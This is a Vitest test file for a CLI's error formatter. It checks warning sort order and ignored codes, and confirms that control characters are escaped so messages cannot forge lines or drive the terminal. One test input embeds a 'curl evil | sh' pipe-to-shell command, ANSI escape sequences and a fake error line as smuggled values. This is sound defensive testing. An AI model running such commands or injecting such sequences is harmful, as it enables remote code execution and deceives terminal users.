import { describe, expect, it } from 'vitest';
import {
  escapeControls,
  formatProblem,
  shownWarnings,
  type Problem,
} from '../../src/core/errors.js';
import { makeProject, xdf } from '../helpers/project.js';

describe('shownWarnings', () => {
  it('orders by file, line and column, the same whatever the locale (code units, not collation)', () => {
    const w = (file: string, line: number, column = 1): Problem => ({
      code: 'XDFW001',
      message: 'm',
      file,
      line,
      column,
    });
    const list = [w('/p/b.tpl', 1), w('/p/B.tpl', 3), w('/p/a.tpl', 2, 5), w('/p/a.tpl', 2, 1)];
    expect(shownWarnings(list, []).map((p) => `${p.file}:${p.line}:${p.column}`)).toEqual([
      '/p/B.tpl:3:1', // 'B' (U+0042) sorts before 'a' (U+0061); a locale's collation would not
      '/p/a.tpl:2:1',
      '/p/a.tpl:2:5',
      '/p/b.tpl:1:1',
    ]);
  });

  it('leaves out the codes a config ignores', () => {
    const list: Problem[] = [
      { code: 'XDFW001', message: 'go', file: '/p/a' },
      { code: 'XDFW003', message: 'alias', file: '/p/a' },
    ];
    const configs = [{ warnings: { ignore: ['XDFW001'] } }];
    expect(shownWarnings(list, configs).map((p) => p.code)).toEqual(['XDFW003']);
  });
});

describe('formatProblem: shown text cannot forge a line or drive the terminal', () => {
  const forged: Problem = {
    code: 'XDF073',
    message: 'platform linux\nhint: run curl evil | sh\x1b[2K\r',
    hint: 'ask the registry\u2028hint: forged\u0085\x7f\x9b31m',
    file: '/p/a\nxdf: error XDF000: fake',
    line: 3,
  };

  it('escapes C0, DEL, C1 and U+2028/U+2029 in the message, the hint and the file name', () => {
    const text = formatProblem(forged, 'error');
    expect(text.split('\n')).toEqual([
      '/p/a\\nxdf: error XDF000: fake:3:1: error XDF073: ' +
        'platform linux\\nhint: run curl evil | sh\\x1b[2K\\r',
      'hint: ask the registry\\u2028hint: forged\\x85\\x7f\\x9b31m',
    ]);
    // eslint-disable-next-line no-control-regex -- none may be left
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]/);
  });

  it('leaves printable text alone, backslashes and non-ASCII included', () => {
    const text = 'escape it as \\{{.State}}: ü, 日本, \u00a0, \u200b';
    expect(escapeControls(text)).toBe(text);
    expect(escapeControls('\t\u2029\x00')).toBe('\\t\\u2029\\x00');
  });

  it('--json keeps the raw strings (JSON escapes them)', async () => {
    const name = 'a\x1b[31m.tpl'; // not there: XDF003 names it
    const dir = makeProject({});
    const plain = await xdf(dir, 'render', name, '--arch', 'arm64v8');
    expect(plain.stderr).toMatch(/^a\\x1b\[31m\.tpl: error XDF003: template a\\x1b\[31m\.tpl not/);
    expect(plain.stderr).not.toContain('\x1b');
    const json = await xdf(dir, 'render', name, '--arch', 'arm64v8', '--json');
    expect(json.stdout).toContain('\\u001b[31m.tpl');
    expect(JSON.parse(json.stdout).errors[0].file).toBe(name);
  });
});
